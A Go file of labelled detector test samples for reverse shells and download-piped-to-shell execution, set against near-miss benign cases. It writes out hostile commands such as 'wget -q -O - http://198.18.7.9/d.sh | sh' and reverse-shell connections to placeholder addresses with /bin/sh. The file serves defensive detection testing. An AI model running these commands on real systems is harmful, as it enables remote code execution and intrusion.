package samples

func reverseShell() []Sample {
	handler := acts("inetd", "7000", "/srv/handler.sh")
	handler.Files = map[string]string{"/srv/handler.sh": "read line\necho \"you said: $line\"\n"}
	handler.Ports = []string{"7000/tcp"}
	return []Sample{
		shows("reverse-shell/exec", acts("reverse-shell", "203.0.113.50:4444"), malicious, "203.0.113.50:4444", "/bin/sh").
			but("direct-ip-egress", "203.0.113.50:4444"),
		shows("reverse-shell/child", acts("reverse-shell-child", "[2001:db8::51]:443"), malicious, "[2001:db8::51]:443"),
		shows("reverse-shell/delayed", script("sleep 1\necho ready\nexec /bin/actor reverse-shell 203.0.113.50:4444\n"), malicious, "203.0.113.50:4444", "/bin/sh"), // scenario A6
		nearly("reverse-shell/accepted-connection", handler),
		nearly("reverse-shell/loopback", acts("loopback-shell")),
		nearly("reverse-shell/no-shell", acts("upload-by-cat", "logs.example.test:5140")),
	}
}

func pipeDownloadShell() []Sample {
	local := script("cat /srv/install.sh | sh\n")
	local.Files["/srv/install.sh"] = "echo installed\n"
	return []Sample{
		shows("pipe-download-shell/address", Spec{Entrypoint: []string{"/bin/sh", "-c", "wget -q -O - http://198.18.7.9/d.sh | sh"}}, malicious, "198.18.7.9"),
		shows("pipe-download-shell/name", script("wget -q -O - http://get.example.test/install.sh | tr -d '\\r' | sh\n"), bad, "get.example.test"),
		nearly("pipe-download-shell/local-file", local),
		nearly("pipe-download-shell/only-data", script("wget -q -O - http://data.example.test/words.txt | grep -c e || true\n")),
	}
}
